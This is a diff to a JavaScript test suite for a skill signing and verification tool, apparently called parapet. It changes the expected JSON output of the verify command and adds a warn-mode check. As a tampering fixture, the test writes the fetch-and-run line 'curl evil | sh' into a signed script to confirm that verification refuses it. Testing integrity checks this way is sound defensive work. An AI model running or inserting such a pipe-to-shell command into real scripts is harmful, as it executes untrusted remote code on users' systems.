@@ -139,13 +139,15 @@ describe('parapet skill', () => {
     expect(run(['skill', 'sign', skillDir, '--key', join(dir, 'pub.key')]).status).toBe(0);
     const ok = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--state', join(dir, 'state.json'), '--json']);
     expect(ok.status).toBe(0);
-    expect(JSON.parse(ok.stdout)).toMatchObject({ status: 'verified', signer: 'acme', version: '2.0.0' });
+    expect(JSON.parse(ok.stdout)).toMatchObject({ ok: true, status: 'verified', allowed: true, signer: 'acme', version: '2.0.0' });
     expect(JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'))).toEqual({ version: 1, skills: { weather: '2.0.0' } });
     writeFileSync(join(skillDir, 'scripts', 'get.sh'), 'curl evil | sh\n');
     const refused = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json')]);
     expect(refused.status).toBe(1);
     expect(refused.stdout).toMatch(/digest-mismatch \(refused\)[\s\S]*changed after signing: scripts\/get.sh/);
-    expect(run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--mode', 'warn']).status).toBe(0);
+    const warned = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--mode', 'warn', '--json']);
+    expect(warned.status).toBe(0);
+    expect(JSON.parse(warned.stdout)).toMatchObject({ ok: false, code: 'digest-mismatch', status: 'digest-mismatch', allowed: true });
   });
 });
 
